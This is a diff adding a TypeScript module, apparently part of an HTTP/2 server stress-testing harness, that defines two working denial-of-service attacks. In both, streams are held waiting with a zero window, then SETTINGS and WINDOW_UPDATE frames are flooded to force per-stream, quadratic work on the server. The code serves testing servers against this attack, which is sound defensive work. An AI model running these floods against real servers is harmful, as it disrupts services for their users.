@@ -1,0 +1,61 @@
+import type { Attack } from '../attack-definition.js';
+import type { Attacker } from '../attacker.js';
+import { requestFields } from '../identities.js';
+import { INITIAL_WINDOW_SIZE, settings, windowUpdate } from '../wire/raw-frames.js';
+import type { RawHttp2 } from '../wire/raw-http2.js';
+
+const CONNECTIONS = 4;
+/** Below what a client may send of frames that carry nothing. */
+const BURST = 9000;
+const FRAMES_PER_SECOND = 900;
+const CHUNK = 300;
+
+/** Opens streams whose answers wait for a window. */
+async function waitingAnswers(connection: RawHttp2, count: number): Promise<void> {
+  const fields = requestFields('GET', '/apis');
+  await connection.send(...Array.from({ length: count }, () => connection.headers(connection.nextStream(), fields)));
+  await connection.answered(count, 2000);
+}
+
+/** First a burst, then a steady rate, until the connection ends. */
+async function storm(attacker: Attacker, connection: RawHttp2, frameOf: (index: number) => Buffer): Promise<void> {
+  for (let index = 0; index < BURST && !connection.isOver; index += CHUNK) {
+    await connection.send(...Array.from({ length: CHUNK }, (_, at) => frameOf(index + at)));
+  }
+  attacker.note('frames in bursts', BURST);
+  await attacker.atRate(
+    FRAMES_PER_SECOND,
+    () => !connection.isOver,
+    (index) => connection.write(frameOf(index)),
+  );
+}
+
+export const settingsStorm: Attack = {
+  name: 'settings-storm',
+  about: '100 answers that wait for a window, then 9,000 SETTINGS (135 kB) that change all windows: work for each answer per frame',
+  run: (attacker) =>
+    attacker.lanes(CONNECTIONS, async () => {
+      const connection = await attacker.http2({ initialWindow: 0 });
+      await waitingAnswers(connection, connection.maxStreams);
+      await storm(attacker, connection, (index) => settings([[INITIAL_WINDOW_SIZE, index % 2]]));
+    }),
+};
+
+const STREAMS = 6000;
+
+export const streamStorm: Attack = {
+  name: 'stream-storm',
+  about: 'as many waiting answers as the server allows (6,000 here), then SETTINGS and WINDOW_UPDATE in turn: work that is quadratic',
+  serverFlags: [`--http2-max-streams-per-connection=${STREAMS}`],
+  run: (attacker) =>
+    attacker.lanes(1, async () => {
+      const connection = await attacker.http2({ initialWindow: 0 });
+      await attacker.pause(200);
+      await waitingAnswers(connection, Math.min(STREAMS, connection.maxStreams));
+      await attacker.atRate(
+        20,
+        () => !connection.isOver,
+        (index) => connection.write(settings([[INITIAL_WINDOW_SIZE, 1 + (index % 2)]]), windowUpdate(0, 1), windowUpdate(1, 1)),
+      );
+    }),
+};
